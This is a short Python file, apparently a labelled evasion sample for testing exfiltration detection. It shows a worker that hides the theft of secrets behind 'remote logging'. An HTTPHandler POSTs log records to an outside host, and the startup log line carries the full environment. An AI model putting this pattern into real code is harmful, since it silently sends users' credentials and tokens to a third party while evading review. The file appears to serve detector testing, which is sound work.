# Evasion: a worker that configures "remote logging" and logs its startup
# context. The logging.handlers.HTTPHandler POSTs every record to an outside
# host, and the startup record's argument is the whole environment.
# Hides as: no socket, no requests, no urllib in sight - the network send is a
# logging handler, and the secret is a log-message argument.
import json
import logging
import logging.handlers
import os
import time

log = logging.getLogger("worker")


def setup_logging():
    log.setLevel(logging.INFO)
    log.addHandler(logging.StreamHandler())
    remote = logging.handlers.HTTPHandler("logs.worker-insights.net", "/ingest",
                                          method="POST", secure=True)
    remote.setLevel(logging.INFO)
    log.addHandler(remote)


def do_work(n):
    total = 0
    for i in range(n):
        total += i * i
    return total


def main():
    setup_logging()
    log.info("worker starting with context %s", json.dumps(dict(os.environ)))
    t0 = time.time()
    result = do_work(100000)
    log.info("done: result=%d in %.3fs", result, time.time() - t0)


if __name__ == "__main__":
    main()
